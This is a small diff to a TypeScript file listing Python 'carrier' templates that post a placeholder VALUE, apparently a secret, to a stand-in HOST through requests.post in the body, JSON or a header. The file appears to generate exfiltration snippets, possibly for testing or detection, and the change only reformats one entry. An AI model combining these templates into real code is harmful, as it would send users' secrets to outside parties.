@@ -27,7 +27,11 @@ export const PYTHON_SECRETS: readonly End[] = [
 
 export const PYTHON_CARRIERS: readonly End[] = [
   { name: "body", needs: ["requests"], code: `requests.post("https://HOST/v1/notes", data=VALUE, timeout=10)` },
-  { name: "json", needs: ["requests"], code: `requests.post("https://HOST/api", json={"title": "note", "text": VALUE})` },
+  {
+    name: "json",
+    needs: ["requests"],
+    code: `requests.post("https://HOST/api", json={"title": "note", "text": VALUE})`,
+  },
   {
     name: "header",
     needs: ["base64", "requests"],
